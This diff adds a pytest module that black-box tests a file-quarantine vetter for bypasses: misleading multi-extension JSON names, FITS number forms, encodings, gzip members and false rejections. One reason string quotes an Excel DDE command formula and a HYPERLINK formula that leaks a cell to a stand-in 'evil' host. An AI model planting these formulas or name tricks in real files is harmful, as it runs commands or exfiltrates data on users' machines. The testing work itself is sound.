@@ -1,0 +1,248 @@
+"""Independent black-box attack i on `vmguard vet`'s content claims (issue #13): text,
+CSV/TSV, JSON, FITS and gzip under policy/batch.yaml's allow_types, after session 34.
+
+Attacked: what session 34 fixed. Names that announce JSON: the 27 extensions are pinned as
+last extensions, but Apache types a name by its rightmost extension that has a type, a
+rule vmguard applies to pages (`page.html.en`, `feed.xml.dat` are refused) and not to
+JSON (`x.json.dat`, `x.geojson.out`, `x.json.en`, `x.json.utf8`, `x.json.dat.gz` publish
+JSON-shaped text whose white space is free; a real Apache 2.4 with Debian's mime.conf,
+where installed, confirms the Content-Type). FITS ASCII tables: NaN/INF in mixed case,
+`+INF`, `-infinity`, a 3-digit exponent 0, d = 0 forms mixed in Ew.0/Dw.0 and C's `%#.0E`
+point (all refused). JSON numbers no serializer writes and once-per-file choices mixed
+(refused). Text a client acts on: a CSV with an Excel DDE formula (published). False
+rejections: Python's gzip appending a member per session when a session logs nothing
+(an empty member beside others), a log line holding Python's repr of `object()`
+(`<object object at 0x...>`, the text rule's `<object`), and two the docs choose (tqdm's
+nested bars' ESC [A in a job's .err; a log holding nginx's 502 page). A report line: a
+refusal's "near byte N" names the start of the 1 MiB read, not the character.
+
+Controls: json/orjson/ujson/simplejson/json.tool/jq (64-bit ids too), node's
+JSON.stringify, papermill notebooks (pandas HTML, a plotly <script> in strings), pandas with tiny and huge floats (records, table, lines,
+double_precision=15), logging in UTF-8 and UTF-16, YAML, LHE with POWHEG's comment and
+CDATA, HepMC3, SLHA, Fortran E output, pandas' Excel UTF-16 TSV, BOM, CRLF, QUOTE_ALL,
+numpy.savetxt with E-120, GNU gzip --rsyncable, pigz (-1 -6 -9 -11 -i --rsyncable),
+Python's gzip with mtime, astropy ASCII tables (non-finite, d = 0, E-324 and D+308) and
+compressed images (HCOMPRESS lossy, RICE without dither or with a negative quantize
+level, GZIP_2 int32), fitsio's (cfitsio) tables and images where installed, a single
+tqdm bar in a job's .err.
+
+Every file is built once, at import (about 3 s of CPU), and all go into one quarantine vetted
+ONCE through the CLI with the shipped allow_types (scanners off, per-file promotion). A
+hit is a strict xfail (HOLES, FALSE_REJECTIONS) whose reason says what got out or was
+refused.
+"""
+
+from __future__ import annotations
+
+import gzip
+import hashlib
+import json
+import tempfile
+import time
+from pathlib import Path
+
+import pytest
+
+pytest.importorskip("astropy.io.fits")
+pytest.importorskip("pandas")
+pytest.importorskip("orjson")
+pytest.importorskip("ujson")
+pytest.importorskip("simplejson")
+
+from tests.quarantine.test_attack_independent_dcontent import _policy  # noqa: E402
+from tests.quarantine.test_attack_independent_econtent import _vet  # noqa: E402
+from tests.support import attack_icontent_apache as apache  # noqa: E402
+from tests.support import attack_icontent_files as made  # noqa: E402
+from tests.support import attack_icontent_fits as made_fits  # noqa: E402
+from tests.support import attack_icontent_gzip as made_gz  # noqa: E402
+
+
+def _build() -> dict[str, bytes]:
+    with tempfile.TemporaryDirectory() as tmp:
+        work = Path(tmp)
+        files = (
+            made.json_name_cases()
+            | made.PAGE_BEFORE_LAST
+            | made.LAST_TYPED
+            | made.json_number_cases()
+            | made.json_controls(work / "json")
+            | made.json_tool_controls(work / "jsontools")
+            | made.text_controls(work / "text")
+            | made.csv_controls()
+            | made.csv_hostile()
+            | made.OFFSET_CASES
+            | made_gz.gzip_controls(work / "gz")
+            | made_gz.gzip_hostile(work / "gzh")
+            | made_fits.ascii_controls()
+            | made_fits.ascii_hostile()
+            | made_fits.comp_controls()
+            | made_fits.fitsio_controls(work / "fitsio")
+        )
+        return files | made.same_text_other_bytes(files)
+
+
+FILES = _build()
+
+
+@pytest.fixture(scope="module")
+def run(tmp_path_factory):
+    base = tmp_path_factory.mktemp("attack-icontent")
+    start = time.monotonic()
+    vetted = _vet(base, "content", FILES, _policy())
+    return {**vetted, "seconds": time.monotonic() - start}
+
+
+_APACHE = (
+    "published: Apache types a name by its rightmost extension that has a type (vmguard's own "
+    "rule for pages: page.html.en and feed.xml.dat are refused), so it serves this as {type}; a "
+    "client parses it as JSON and drops the text's free white space (json.loads returns the "
+    "compact document's value): the JSON-name pin checks the last extension only"
+)
+_GEO, _JSON = "application/geo+json", "application/json"
+HOLES: dict[str, str] = {
+    "apache-multi.json.dat": _APACHE.format(type=f"{_JSON} (.dat has none)"),
+    "apache-multi.geojson.out": _APACHE.format(type=f"{_GEO} (.out has none)"),
+    "apache-lang.json.en": _APACHE.format(type=f"{_JSON} (.en is a language: AddLanguage)"),
+    "apache-charset.json.utf8": _APACHE.format(type=f"{_JSON} (.utf8 a charset: AddCharset)"),
+    "apache-multi.webmanifest.1": _APACHE.format(type="application/manifest+json (.1 has none)"),
+    "apache-upper.JSON.dat": _APACHE.format(type=f"{_JSON} (mod_mime's extensions are case-blind)"),
+    "apache-dots.json..dat": _APACHE.format(type=f"{_JSON} (an empty extension is skipped)"),
+    "gz-loose.geojson.en.gz": _APACHE.format(
+        type=f"{_GEO} once unpacked: gunzip names the inner file x.geojson.en"
+    ),
+    "gz-loose.json.dat.gz": _APACHE.format(
+        type=f"{_JSON} once unpacked: gunzip names the inner file x.json.dat (vmguard judges that name, as "
+        "it refuses the same text in x.json.gz)"
+    ),
+    "csv-dde-formula.csv": "published: a .csv whose cell is =cmd|' /C calc'!A0; Excel evaluates a cell "
+    "starting = as a formula when it opens a .csv (this DDE launch asks first and is off by default in "
+    'Microsoft 365 since 2023; =HYPERLINK("http://evil/?"&A1) leaks a cell on one click): text a client '
+    "treats as active content; docs/quarantine.md calls text content data, so this may be by design",
+}
+_ENCODING = (
+    "published: the same text as ctl-log-utf16.log (UTF-16LE), here {how}: Python's utf-16/utf-8 readers "
+    "return the one str, so the choice among UTF-8, UTF-16LE and UTF-16BE is log2 3 = 1.6 bits a file no "
+    "reader returns; 'JSON and text: what exactness leaves' lists line ends and white space, not this"
+)
+HOLES |= {
+    "text-utf16be-of-ctl.log": _ENCODING.format(how="UTF-16BE behind FE FF"),
+    "text-utf8-of-ctl.log": _ENCODING.format(how="UTF-8"),
+}
+_EMPTY_MEMBER = (
+    "refused (invalid-format: an empty member beside others): Python's gzip.open(path, 'ab') once a "
+    "session, {which}, writes a member that inflates to nothing; the docs cite gzip.open(path, 'at') per "
+    "session as ordinary and already leave each member's MTIME free (32 bits a member, at most 10,000)"
+)
+FALSE_REJECTIONS: dict[str, str] = {
+    "ctl-append-quiet-session.log.gz": _EMPTY_MEMBER.format(which="the second logging nothing"),
+    "ctl-append-quiet-first.log.gz": _EMPTY_MEMBER.format(which="the first logging nothing"),
+    "ctl-log-object-repr.log": "refused (invalid-format: text: markup '<object'): logging.warning(f'default "
+    "{sentinel!r} replaced') writes Python's repr of object(), '<object object at 0x7f...>', in a .log "
+    "served as text/plain; the rule already passes <metadata> and <format>",
+    "ctl-train-nested-4243.err": "refused (invalid-format: text: ESC): tqdm's nested bars (an inner loop with "
+    "leave=False) in a job's stderr file, as every training job writes it: tqdm moves up with ESC [A whether "
+    "or not the file is a terminal; by design as docs/quarantine.md words it (no ESC in text), listed as the "
+    "ordinary output it is (a single bar, CR only, is published: ctl-train-4242.err)",
+    "ctl-log-http-502.log": "refused (type-not-allowed: text/html, libmagic's guess): a .log whose line holds "
+    "the nginx 502 page requests' HTTPError carried; by design as docs/quarantine.md words it (no markup "
+    "anywhere in text, defence in depth: a .log is served as text/plain), listed as the ordinary job log it is",
+}
+
+
+def _case(name: str, table: dict[str, str]):
+    if name in table:
+        return pytest.param(name, marks=pytest.mark.xfail(strict=True, reason=table[name]))
+    return name
+
+
+def _names(controls: bool) -> list[str]:
+    chosen = [n for n in FILES if n.startswith("ctl") == controls and n not in made.LAST_TYPED]
+    return sorted(chosen)
+
+
+@pytest.mark.parametrize("name", [_case(n, FALSE_REJECTIONS) for n in _names(True)])
+def test_real_output_is_published_byte_identical(run, name):
+    entry = run["entries"][name]
+    assert entry["verdict"] == "accepted", entry
+    published = (run["out"] / name).read_bytes()
+    assert published == FILES[name]
+    assert entry["sha256"] == hashlib.sha256(published).hexdigest()
+
+
+@pytest.mark.parametrize("name", [_case(n, HOLES) for n in _names(False)])
+def test_hostile_file_is_not_published(run, name):
+    entry = run["entries"][name]
+    assert entry["verdict"] != "accepted", entry
+    assert entry["reasons"], entry
+    assert not (run["out"] / name).exists()
+
+
+@pytest.mark.parametrize("name", sorted(made.LAST_TYPED))
+def test_a_name_whose_last_extension_apache_types_is_judged_by_it(run, name):
+    """.bak (application/x-trash) or .txt is the rightmost typed extension: neither JSON nor
+    XML is announced, so these publish (not a hole); the same bytes with .dat after the
+    JSON extension are what HOLES hold."""
+    assert run["entries"][name]["verdict"] == "accepted", run["entries"][name]
+
+
+def test_the_json_name_holes_are_json_to_a_client():
+    """What makes them holes: a client's JSON parser returns what the compact document
+    holds, so the published spaces are bytes no reader returns."""
+    compact = json.loads(json.dumps(json.loads(made.LOOSE_JSON), separators=(",", ":")))
+    for name in (n for n in HOLES if n.startswith(("apache-", "gz-"))):
+        data = FILES[name]
+        data = gzip.decompress(data) if name.endswith(".gz") else data
+        assert json.loads(data) == compact, name
+        assert data != json.dumps(compact).encode(), name
+
+
+@pytest.mark.skipif(not apache.available(), reason="Debian's apache2 is not installed")
+def test_apache_serves_the_json_name_holes_as_json():
+    """The claim HOLES rest on, asked of a real Apache 2.4 with Debian's mime.conf: each
+    published name (gunzip's inner name for a .gz) is sent as a JSON type, and the names
+    rightly published are not."""
+    holes = {n.removesuffix(".gz"): n for n in HOLES if n.startswith(("apache-", "gz-"))}
+    with apache.serving([*holes, *made.LAST_TYPED]) as sent:
+        for name in holes:
+            assert sent[name].split(";")[0].endswith("json"), (name, sent[name])
+        for name in made.LAST_TYPED:
+            assert not sent[name].split(";")[0].endswith(("json", "xml")), (name, sent[name])
+
+
+def test_the_encoding_cases_are_one_text():
+    """What makes them a hole: a reader returns one str for all three files."""
+    text = FILES["ctl-log-utf16.log"].decode("utf-16")
+    assert FILES["text-utf16be-of-ctl.log"].decode("utf-16") == text
+    assert FILES["text-utf8-of-ctl.log"].decode("utf-8") == text
+    assert FILES["ctl-log-utf16.log"].startswith(b"\xff\xfe")
+
+
+def test_the_quiet_session_gzip_is_what_python_reads(run):
+    """The refused append files are sound gzip: Python's gzip returns the logged lines."""
+    line = b"2024-12-05 10:00:00,001 INFO run 42 event 17 done\n"
+    assert gzip.decompress(FILES["ctl-append-quiet-session.log.gz"]) == line * 2
+    assert gzip.decompress(FILES["ctl-append-quiet-first.log.gz"]) == line
+    detail = run["entries"]["ctl-append-quiet-first.log.gz"]["detail"]
+    assert "empty member" in detail, detail
+
+
+_NEAR = (
+    "the detail says 'near byte 0' for a character at byte 299,997 of a 300 KB log: it names the start of "
+    "the 1 MiB read the character fell in (2097152 for one at 3,000,000), up to 1 MiB off, so a user "
+    "looking there finds nothing"
+)
+
+
+@pytest.mark.xfail(strict=True, raises=AssertionError, reason=_NEAR)
+@pytest.mark.parametrize("name", sorted(made.OFFSET_CASES))
+def test_the_refusal_names_where_the_character_is(run, name):
+    """A report line must not lie: 'near byte N' within a line's length of the byte."""
+    import re
+
+    detail = run["entries"][name]["detail"]
+    near = int(re.search(r"near byte (\d+)", detail).group(1))
+    assert abs(near - made.AT) < 4096, detail
+
+
+def test_the_vet_takes_under_twenty_seconds(run):
+    assert run["seconds"] < 20, run["seconds"]
